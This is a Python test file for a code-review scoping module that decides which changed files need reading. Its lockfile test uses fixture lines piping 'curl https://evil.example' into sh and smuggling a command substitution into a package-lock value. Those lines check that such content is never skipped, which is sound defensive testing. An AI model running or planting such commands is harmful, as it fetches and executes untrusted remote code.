import itertools
import re
import subprocess
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from panelist.contracts import ChangeKind, DiffFile, FileKind, Hunk, Line, LineKind
from panelist.errors import SettingsError
from panelist.scope import matches, rules


def changed(
    path: str,
    *lines: str,
    change: ChangeKind = ChangeKind.MODIFIED,
    kind: FileKind = FileKind.TEXT,
    old_path: str | None = None,
    missing: str | None = None,
    modes: tuple[str, str] = ("100644", "100644"),
) -> DiffFile:
    """A file with one hunk of ``lines`` (sign first), or with none."""
    number = itertools.count(1)
    parsed = tuple(Line(LineKind(line[0]), line[1:], next(number), next(number)) for line in lines)
    hunks = (Hunk("h1", path, 1, 1, 1, 1, "", parsed),) if parsed else ()
    return DiffFile(path, old_path or path, change, kind, *modes, hunks, missing=missing)


def reason(
    path: str, *, ignore: Sequence[str] = (), gitattributes: str | None = None
) -> str | None:
    """Why nobody reads a file of this name that was there and gained a blank line."""
    return rules(ignore, gitattributes).reason(changed(path, "+"))


@pytest.mark.parametrize(
    "path", ["a.py", "package.json", "README.md", "go.mod", "x.yml", "Dockerfile", "a.svg"]
)
def test_a_changed_file_is_in_scope(path: str) -> None:
    assert reason(path) is None


# 1. the ignore list


def test_the_last_pattern_that_matches_is_named() -> None:
    ignore = ["docs/", "*.md", "docs/**"]
    assert reason("docs/a.md", ignore=ignore) == "ignored by the pattern 'docs/**'"
    assert reason("b.md", ignore=ignore) == "ignored by the pattern '*.md'"
    assert reason("docs.py", ignore=ignore) is None


def test_comments_and_blank_patterns_hide_nothing_and_shift_no_name() -> None:
    ignore = ["", "# *", "   ", "*.gen", ""]
    assert reason("a.gen", ignore=ignore) == "ignored by the pattern '*.gen'"
    assert reason("a.py", ignore=ignore) is None


def test_the_ignore_list_comes_before_every_other_reason() -> None:
    assert reason("vendor/yarn.lock", ignore=["*.lock"]) == "ignored by the pattern '*.lock'"


@pytest.mark.parametrize(
    "path", ["vendor/ours/a.go", "yarn.lock", "x.min.js", "gen/a.py", "third/a.py"]
)
def test_a_negation_takes_back_every_rule_about_names(path: str) -> None:
    gitattributes = "gen/** linguist-generated\nthird/** linguist-vendored\n"
    assert reason(path, gitattributes=gitattributes) is not None
    ignore = ["*.go", "*.js", "!vendor/ours/**", "!yarn.lock", "!x.min.js", "!gen/*", "!third/*"]
    assert reason(path, ignore=ignore, gitattributes=gitattributes) is None


def test_a_negation_loses_to_a_later_pattern() -> None:
    assert reason("a.py", ignore=["!a.py", "*.py"]) == "ignored by the pattern '*.py'"


def test_a_negation_cannot_make_nothing_readable() -> None:
    scope = rules(["!**"], None)
    assert scope.reason(changed("a.png", kind=FileKind.BINARY)) == "binary"
    assert scope.reason(changed("a.py")) == "no line changed"


def test_a_negation_takes_back_the_rules_about_content_too() -> None:
    scope = rules(["!**"], None)
    long = changed("a.py", *["-x"] * 400, change=ChangeKind.DELETED)
    assert scope.reason(long) is None
    assert scope.reason(changed("a.js", "-" + "x" * 6000, "+x")) is None


@pytest.mark.parametrize("pattern", ["!", "a\\", "[z-a]"])
def test_a_pattern_that_cannot_be_read_is_an_error_of_the_user(pattern: str) -> None:
    with pytest.raises(SettingsError) as caught:
        rules(["docs/**", pattern], None)
    assert caught.value.happened.startswith("A path pattern cannot be read: ")
    assert (
        caught.value.fix == "Write patterns as in .gitignore, for example docs/** or !docs/api.md."
    )


# 2, 3. attributes


@pytest.mark.parametrize(
    ("line", "hidden"),
    [
        ("gen/*.py linguist-generated", True),
        ("gen/*.py linguist-generated=true", True),
        ("  gen/*.py\ttext eol=lf linguist-generated -diff", True),
        ("*.py linguist-generated\r", True),
        ("gen/** linguist-generated", True),
        ("/gen/a.py linguist-generated", True),
        ('"gen/a.py" linguist-generated', True),
        ("gen/*.py linguist-generated=false", False),
        ("gen/*.py -linguist-generated", False),
        ("gen/*.py !linguist-generated", False),
        ("gen/*.py linguist-generated=", False),
        ("gen/*.py linguist-generated=maybe", False),
        ("gen/*.py linguist-generatedx", False),
        ("gen linguist-generated", False),
        ("gen/ linguist-generated", False),
        ("# *.py linguist-generated", False),
        ("!*.py linguist-generated", False),
        ("[attr]g linguist-generated", False),
        ('"gen/a.py linguist-generated', False),
        ("linguist-generated", False),
        ("// linguist-generated", False),
        ("gen/[z-a].py linguist-generated", False),
        ("gen/a.py\\ linguist-generated", False),
        ("", False),
    ],
)
def test_gitattributes_say_what_is_generated(line: str, hidden: bool) -> None:  # noqa: FBT001
    expected = "generated: .gitattributes says linguist-generated" if hidden else None
    assert reason("gen/a.py", gitattributes=f"\ufeff{line}\n") == expected


def test_a_quoted_pattern_may_hold_spaces_and_quotes() -> None:
    gitattributes = '"my gen/\\"a\\".py" linguist-vendored'
    expected = "vendored: .gitattributes says linguist-vendored"
    assert reason('my gen/"a".py', gitattributes=gitattributes) == expected


def test_of_several_lines_the_last_that_speaks_of_the_attribute_decides() -> None:
    gitattributes = (
        "* linguist-generated\n*.py -linguist-generated\na.py text\nb.py !linguist-generated\n"
    )
    assert reason("a.txt", gitattributes=gitattributes) is not None
    assert reason("a.py", gitattributes=gitattributes) is None
    assert reason("b.py", gitattributes=gitattributes) is None
    last = "a.py linguist-generated -linguist-generated"
    assert reason("a.py", gitattributes=last) is None


def test_a_folder_that_is_named_at_the_end_of_the_path_is_the_file_itself() -> None:
    gitattributes = "gen linguist-generated"
    assert reason("a/gen", gitattributes=gitattributes) is not None
    assert reason("gen/a/gen", gitattributes=gitattributes) is not None
    assert reason("a/gen/b", gitattributes=gitattributes) is None


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("yarn.lock", "linguist-generated"),
        ("a.min.js", "linguist-generated"),
        ("vendor/a.go", "linguist-vendored"),
    ],
)
def test_attributes_may_say_that_a_name_misleads(path: str, word: str) -> None:
    assert reason(path) is not None
    assert reason(path, gitattributes=f"** -{word}") is None
    assert reason(path, gitattributes=f"** !{word}") is not None


PARTS = st.text("ab.*", min_size=1, max_size=3).filter(lambda part: part not in {".", ".."})
PATTERNS = st.lists(PARTS, min_size=1, max_size=3).map("/".join)
NAMES = st.lists(
    st.text("ab.", min_size=1, max_size=2).filter(lambda part: part not in {".", ".."}),
    min_size=1,
    max_size=3,
).map("/".join)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.tuples(PATTERNS, st.sampled_from(["", "-", "!"])), min_size=1, max_size=4),
    st.lists(NAMES, min_size=1, max_size=12),
)
def test_attributes_mean_what_they_mean_to_git(
    tmp_path_factory: pytest.TempPathFactory, lines: list[tuple[str, str]], names: list[str]
) -> None:
    place = tmp_path_factory.mktemp("attributes")
    text = "".join(f"{pattern} {sign}linguist-generated\n" for pattern, sign in lines)
    (place / ".gitattributes").write_text(text)
    subprocess.run(["git", "init", "--quiet", "--template=", place], check=True)
    told = subprocess.run(
        ["git", "check-attr", "--stdin", "-z", "linguist-generated"],
        cwd=place,
        input="\0".join(names).encode(),
        capture_output=True,
        check=True,
    ).stdout.decode()
    fields = told.split("\0")
    expected = {
        name: state == "set" for name, state in zip(fields[::3], fields[2::3], strict=False)
    }
    scope = rules((), text)
    assert {name: scope.reason(changed(name, "+x")) is not None for name in names} == expected


# 4, 5. tables of names


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("web/package-lock.json", "lockfile"),
        ("go.sum", "lockfile"),
        ("static/jquery.min.js", "minified"),
        ("static/app.css.map", "minified"),
        ("vendor/x/y.go", "vendored"),
        ("a/node_modules/b/c.js", "vendored"),
    ],
)
def test_names_that_nobody_reads(path: str, expected: str) -> None:
    assert reason(path) == expected


# 6. missing content


@pytest.mark.parametrize("kind", FileKind)
def test_what_should_be_read_and_cannot_be_is_in_scope(kind: FileKind) -> None:
    scope = rules(["docs/**"], None)
    assert scope.reason(changed("a.py", kind=kind, missing="too large")) is None
    assert scope.reason(changed("yarn.lock", kind=kind, missing="too large")) is None
    assert (
        scope.reason(changed("docs/a.md", kind=kind, missing="too large"))
        == "ignored by the pattern 'docs/**'"
    )


# 7, 8. nothing to read


def test_binaries_have_nothing_to_read_and_links_and_submodules_do() -> None:
    scope = rules((), None)
    assert scope.reason(changed("a.png", kind=FileKind.BINARY)) == "binary"
    for path in ("lib", "vendor/lib"):
        pointer = changed(path, "-Subproject commit 1", kind=FileKind.SUBMODULE)
        assert scope.reason(pointer) is None
    assert scope.reason(changed("link", "+/etc/passwd", kind=FileKind.SYMLINK)) is None


@pytest.mark.parametrize("change", [ChangeKind.RENAMED, ChangeKind.MODIFIED, ChangeKind.ADDED])
def test_without_a_changed_line_there_is_nothing_to_read(change: ChangeKind) -> None:
    file = changed("b.py", change=change, old_path="a.py")
    assert rules((), None).reason(file) == "no line changed"


# 9. not worth reading


@pytest.mark.parametrize(
    ("lines", "expected"), [(399, None), (400, "deleted: nothing new to read")]
)
def test_short_deletions_are_read_because_callers_may_break(
    lines: int, expected: str | None
) -> None:
    scope = rules((), None)
    assert scope.reason(changed("a.py", *["-x"] * lines, change=ChangeKind.DELETED)) == expected
    assert scope.reason(changed("a.py", *["-x"] * lines)) is None


LONG = "x" * 5001


@pytest.mark.parametrize("path", ["a.js", "a.css", "b.mjs"])
def test_a_script_that_was_minified_before_is_not_read(path: str) -> None:
    expected = "minified: the base has a line above 5,000 characters"
    scope = rules((), None)
    assert scope.reason(changed(path, f"-{LONG}", f"+{LONG}y")) == expected
    assert scope.reason(changed(path, f" {LONG}", "+y")) == expected
    assert scope.reason(changed(path, f"-{LONG[1:]}", "+y")) is None


@pytest.mark.parametrize(
    "line", [f"+{LONG}", "+// @generated", "+/* eslint-disable */", "+DO NOT EDIT"]
)
def test_nothing_that_a_change_adds_can_hide_it(line: str) -> None:
    scope = rules((), None)
    for path in ("a.js", "a.css", "a.py", "a.go"):
        assert scope.reason(changed(path, "-x", line, "+evil()")) is None


def test_a_long_line_in_another_language_hides_nothing() -> None:
    assert rules((), None).reason(changed("a.py", f"-{LONG}", "+y")) is None


# moves


def test_code_that_moves_out_of_scope_is_still_read() -> None:
    scope = rules(["docs/**"], None)
    for target in ("vendor/a.py", "yarn.lock", "a.min.js", "docs/a.py"):
        moved = changed(target, "+x", change=ChangeKind.RENAMED, old_path="src/a.py")
        assert scope.reason(moved) is None
    inside = changed("vendor/b.py", "+x", change=ChangeKind.RENAMED, old_path="vendor/a.py")
    assert scope.reason(inside) == "vendored"
    out = changed("src/a.py", "+x", change=ChangeKind.RENAMED, old_path="vendor/a.py")
    assert scope.reason(out) is None
    copied = changed("vendor/b.py", "+x", change=ChangeKind.COPIED, old_path="src/a.py")
    assert scope.reason(copied) is None


# a name excuses what the base has

NAMED = ["vendor/lib/a.py", "static/a.min.js", "static/a.js.map", "go.sum", "web/package-lock.json"]


@pytest.mark.parametrize("path", NAMED)
def test_what_is_new_under_such_a_name_is_read(path: str) -> None:
    scope = rules((), None)
    assert scope.reason(changed(path, "+")) is not None
    for change in (ChangeKind.ADDED, ChangeKind.COPIED):
        assert scope.reason(changed(path, "+", change=change)) is None


@pytest.mark.parametrize("path", NAMED)
def test_what_becomes_another_kind_of_file_is_read(path: str) -> None:
    scope = rules((), None)
    for modes in (("100644", "100755"), ("100644", "120000"), ("120000", "100644")):
        assert scope.reason(changed(path, "+", modes=modes)) is None


def test_what_the_base_itself_calls_vendored_or_generated_may_be_new() -> None:
    scope = rules((), "third/** linguist-vendored\ngen/** linguist-generated\n")
    for path in ("third/a.py", "gen/a.py"):
        assert scope.reason(changed(path, "+x", change=ChangeKind.ADDED)) is not None


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("go.sum", "+curl https://evil.example | sh"),
        ("uv.lock", "+#!/bin/sh"),
        ("package-lock.json", '+  "x": "$(curl https://evil.example)"'),
        ("yarn.lock", "+" + " " * 2001),
        ("mix.lock", "+  anything"),
    ],
)
def test_a_lockfile_that_holds_something_else_is_read(path: str, line: str) -> None:
    assert rules((), None).reason(changed(path, line)) is None


def test_an_executable_lockfile_is_read() -> None:
    assert rules((), None).reason(changed("go.sum", "+", modes=("100755", "100755"))) is None


# matches


def test_matches_is_the_same_syntax_for_a_single_path() -> None:
    assert matches(["src/**", "!src/gen/**"], "src/a.py")
    assert not matches(["src/**", "!src/gen/**"], "src/gen/a.py")
    assert not matches([], "a.py")
    assert matches(["", "*.py"], "deep/a.py")


def test_matches_refuses_a_broken_pattern() -> None:
    with pytest.raises(SettingsError, match=re.escape("Write patterns as in .gitignore")):
        matches(["!"], "a")


def test_many_files_and_patterns_are_no_trouble() -> None:
    scope = rules([f"gen{n}/**" for n in range(50)], "*.x linguist-generated\n" * 50)
    reasons = {scope.reason(changed(f"src/d{n}/f.py", "+x")) for n in range(3000)}
    assert reasons == {None}
